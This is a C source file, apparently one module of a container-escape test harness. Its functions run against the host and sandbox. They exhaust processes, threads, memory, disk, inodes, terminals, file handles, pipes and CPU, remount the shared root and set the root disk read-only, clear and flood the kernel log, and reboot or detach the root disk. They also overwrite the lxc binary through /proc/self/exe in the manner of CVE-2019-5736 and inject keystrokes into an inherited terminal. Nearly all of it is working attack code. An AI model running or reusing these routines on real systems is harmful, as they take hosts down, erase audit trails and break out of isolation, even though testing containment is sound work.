/* What uses the device up. Each stops by itself: after a few seconds, or when there is nothing left to take. */
#include "escape.h"
#include <pthread.h>
#include <linux/fs.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/reboot.h>

/* How long what was taken is held, so that the device notices. */
#define HOLD 1

static void say(const char *what, long count)
{
	errno = 0;
	note("%s %ld", what, count);
}

static double seconds(void)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec + now.tv_nsec / 1e9;
}

static void processes(void)
{
	long count = 0;
	double end = seconds() + 8;
	while (seconds() < end && count < 40000) {
		pid_t child = fork();
		if (child < 0) break;
		if (child == 0) {
			sleep(HOLD + 2);
			_exit(0);
		}
		count++;
	}
	say("processes", count);
	/* What ends in between is made again. */
	for (end = seconds() + HOLD; seconds() < end;) {
		pid_t child = fork();
		if (child == 0) {
			sleep(HOLD);
			_exit(0);
		}
	}
}

static void *wait_here(void *unused)
{
	(void)unused;
	sleep(HOLD + 2);
	return NULL;
}

static void threads(void)
{
	pthread_attr_t small;
	pthread_t thread;
	long count = 0;
	pthread_attr_init(&small);
	pthread_attr_setstacksize(&small, 32768);
	double end = seconds() + 10;
	/* One process has an address space of 2 GB, so several do it. */
	for (int i = 0; i < 12; i++) {
		if (fork() != 0) continue;
		while (seconds() < end && count < 20000 && pthread_create(&thread, &small, wait_here, NULL) == 0) count++;
		if (i == 0) say("threads of the first", count);
		sleep(HOLD + 2);
		_exit(0);
	}
	sleep(HOLD + 6);
}

static void take_memory(void)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "%s/self/oom_score_adj", procfs());
	write_file(path, "-1000");
	long count = 0;
	double end = seconds() + 12;
	while (seconds() < end && count < 600) {
		char *room = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (room == MAP_FAILED) break;
		for (int at = 0; at < 1 << 20; at += 4096) room[at] = 1;
		count++;
	}
	say("MB", count);
	sleep(HOLD);
}

static long fill(const char *directory, long most_mb)
{
	static char block[1 << 16];
	char path[PATH_MAX];
	long blocks = 0;
	double end = seconds() + 12;
	snprintf(path, sizeof(path), "%s/escape-fill", directory);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0) return 0;
	memset(block, 'x', sizeof(block));
	while (seconds() < end && blocks < most_mb * 16 && write(fd, block, sizeof(block)) > 0) blocks++;
	fsync(fd);
	close(fd);
	return blocks / 16;
}

static void unfill(const char *directory)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "%s/escape-fill", directory);
	unlink(path);
}

static void disk(void)
{
	static const char *const places[] = {"", "/var", "/tmp", "/run", "/home", "/root", "/srv", "/dev/shm", NULL};
	for (int i = 0; places[i] != NULL; i++) {
		long mb = fill(places[i], 600);
		if (mb > 0) say(places[i][0] == '\0' ? "MB in /" : places[i], mb);
	}
	sleep(HOLD);
	for (int i = 0; places[i] != NULL; i++) unfill(places[i]);
}

static void memory_files(void)
{
	const char *path = fresh("tmpfs", "size=100%");
	if (path != NULL) say("MB of tmpfs", fill(path, 600));
	say("MB of /dev/shm", fill("/dev/shm", 600));
	say("MB of /dev", fill("/dev", 600));
	int fd = syscall(__NR_memfd_create, "escape", 0);
	static char block[1 << 16];
	long count = 0;
	double end = seconds() + 6;
	memset(block, 'x', sizeof(block));
	while (fd >= 0 && seconds() < end && count < 8000 && write(fd, block, sizeof(block)) > 0) count++;
	say("MB of memfd", count / 16);
	sleep(HOLD);
	unfill("/dev/shm");
	unfill("/dev");
}

static void inodes(void)
{
	char path[100];
	long count = 0;
	double end = seconds() + 10;
	mkdir("/escape-inodes", 0700);
	for (; seconds() < end && count < 200000; count++) {
		snprintf(path, sizeof(path), "/escape-inodes/%ld", count);
		int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd < 0) {
			note("files");
			break;
		}
		close(fd);
	}
	say("files", count);
	sleep(HOLD);
	while (count-- > 0) {
		snprintf(path, sizeof(path), "/escape-inodes/%ld", count);
		unlink(path);
	}
	rmdir("/escape-inodes");
}

static void terminals(void)
{
	long count = 0;
	for (int i = 0; i < 8; i++) {
		if (fork() != 0) continue;
		struct rlimit most = {4096, 4096};
		setrlimit(RLIMIT_NOFILE, &most);
		while (count < 4096 && open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0) count++;
		if (count == 0) note("ptmx");
		else say("terminals", count);
		sleep(HOLD);
		_exit(0);
	}
	sleep(HOLD + 1);
}

static void open_files(void)
{
	for (int i = 0; i < 40; i++) {
		pid_t child = fork();
		if (child < 0) break;
		if (child > 0) continue;
		struct rlimit most = {65536, 65536};
		setrlimit(RLIMIT_NOFILE, &most);
		long count = 0;
		double end = seconds() + 7;
		while (seconds() < end && open("/", O_RDONLY) >= 0) count++;
		if (i == 0) say("files opened", count);
		sleep(HOLD);
		_exit(0);
	}
	sleep(HOLD + 7);
}

static void processor(void)
{
	/* Without this the kernel leaves a twentieth of the time to others. */
	write_kernel("proc", "sys/kernel/sched_rt_runtime_us", "-1");
	double end = seconds() + 8;
	for (int i = 0; i < 8; i++) {
		if (fork() != 0) continue;
		struct sched_param priority = {.sched_priority = 99};
		syscall(__NR_sched_setscheduler, 0, SCHED_FIFO, &priority);
		setpriority(PRIO_PROCESS, 0, -20);
		while (seconds() < end) continue;
		_exit(0);
	}
	sleep(9);
}

static void pipes(void)
{
	static char block[1 << 16];
	long count = 0;
	double end = seconds() + 8;
	for (int i = 0; i < 12; i++) {
		if (fork() != 0) continue;
		int ends[2];
		while (seconds() < end && pipe(ends) == 0) {
			fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
			fcntl(ends[1], F_SETFL, O_NONBLOCK);
			while (write(ends[1], block, sizeof(block)) > 0) count++;
		}
		if (i == 0) say("blocks in pipes", count);
		sleep(HOLD);
		_exit(0);
	}
	sleep(12);
}

static void restart(void)
{
	/* In a PID namespace of its own this ends the container (reboot(2)). */
	sync();
	reboot(RB_AUTOBOOT);
	note("reboot");
}

static void remove_root_disk(void)
{
	DIR *all = opendir("/sys/bus/pci/devices");
	if (all == NULL) {
		const char *path = fresh("sysfs", NULL);
		if (path != NULL) {
			mkdir("/sys", 0755);
			mount(path, "/sys", NULL, MS_BIND, NULL);
			all = opendir("/sys/bus/pci/devices");
		}
	}
	for (struct dirent *one; all != NULL && (one = readdir(all)) != NULL;) {
		char path[PATH_MAX], text[20] = "";
		snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/class", one->d_name);
		/* Mass storage of virtio. */
		if (read_file(path, text, sizeof(text)) <= 0 || strncmp(text, "0x0100", 6) != 0) continue;
		snprintf(path, sizeof(path), "bus/pci/devices/%s/remove", one->d_name);
		write_kernel("sys", path, "1");
	}
}

/* A script of the container's whose interpreter is whoever runs it: lxc-attach of the device (CVE-2019-5736). */
static void prepare_exe(void)
{
	int fd = open("/escape-exe", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (fd < 0 || write(fd, "#!/proc/self/exe\n", 17) != 17) note("/escape-exe");
	if (fd >= 0) close(fd);
}

static void grab(const char *proc, const char *pid)
{
	char path[PATH_MAX], to[PATH_MAX] = "";
	/* What waits for a container to end is busy for as long. */
	snprintf(path, sizeof(path), "%s/%s/comm", proc, pid);
	if (read_file(path, to, sizeof(to)) > 0 && (strncmp(to, "lxc-start", 9) == 0 || strncmp(to, "[lxc", 4) == 0)) return;
	memset(to, 0, sizeof(to));
	snprintf(path, sizeof(path), "%s/%s/exe", proc, pid);
	if (readlink(path, to, sizeof(to) - 1) < 0 || strstr(to, "lxc") == NULL) return;
	/* On the device there is one that ends soon. */
	if (strcmp(container, "device") == 0 && strstr(to, "lxc-copy") == NULL) return;
	int held = open(path, O_PATH | O_CLOEXEC);
	if (held < 0) return;
	snprintf(path, sizeof(path), "%s/self/fd/%d", proc, held);
	for (int i = 0; i < 300; i++) {
		/* Busy while it runs; the identification of an ELF file has unused bytes at its end. */
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			if (pwrite(fd, "E", 1, 15) != 1) note("write to %s", to);
			close(fd);
			close(held);
			return;
		}
		if (errno != ETXTBSY) break;
		usleep(10000);
	}
	note("%s", to);
	close(held);
}

static void write_exe(void)
{
	for (double end = seconds() + 5; seconds() < end; usleep(5000)) each_process(grab);
}

static void superblock(void)
{
	/* Not a bind mount's flag but the file system's: the device's own root gets it as well. */
	if (mount(NULL, "/lib", NULL, MS_REMOUNT | MS_SYNCHRONOUS, NULL) != 0) note("remount /lib");
	if (mount(NULL, "/", NULL, MS_REMOUNT | MS_SYNCHRONOUS, NULL) != 0) note("remount /");
}

static void block_device(void)
{
	unsigned major, minor;
	int on = 1;
	if (!root_disk(&major, &minor)) return;
	int fd = open_node(S_IFBLK, major, minor, O_RDONLY);
	if (fd >= 0 && ioctl(fd, BLKROSET, &on) != 0) note("BLKROSET");
}

static void clear_log(void)
{
	if (klogctl(5 /* CLEAR */, NULL, 0) != 0) note("syslog");
}

/* More than the kernel's log holds. */
static void flood_log(void)
{
	char line[800];
	write_kernel("proc", "sys/kernel/printk_devkmsg", "on\n");
	int fd = open("/dev/kmsg", O_WRONLY | O_CLOEXEC);
	if (fd < 0) fd = open_node(S_IFCHR, 1, 11, O_WRONLY);
	if (fd < 0) return;
	memset(line, 'x', sizeof(line));
	memcpy(line, "<7>", 3);
	line[sizeof(line) - 1] = '\n';
	for (int i = 0; i < 2000; i++)
		if (write(fd, line, sizeof(line)) < 0) break;
}

static void inherited_terminal(void)
{
	/* Often, because whoever owns the terminal reads from it as well. */
	for (int i = 0; i < 20; i++)
		for (int fd = 0; fd < 3; fd++)
			if (!type_into(fd)) continue;
	int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (fd >= 0) type_into(fd);
}

const struct attempt resources[] = {
	{"dos-processes", processes},
	{"dos-threads", threads},
	{"dos-memory", take_memory},
	{"dos-disk", disk},
	{"dos-memory-files", memory_files},
	{"dos-inodes", inodes},
	{"dos-terminals", terminals},
	{"dos-files", open_files},
	{"dos-processor", processor},
	{"dos-pipes", pipes},
	{"superblock-sync", superblock},
	{"disk-read-only", block_device},
	{"log-clear", clear_log},
	{"log-flood", flood_log},
	{"reboot", restart},
	{"pci-remove-disk", remove_root_disk},
	{"exe-prepare", prepare_exe},
	{"exe-overwrite", write_exe},
	{"attach-terminal", inherited_terminal},
	{"start-terminal", inherited_terminal},
	{NULL, NULL},
};
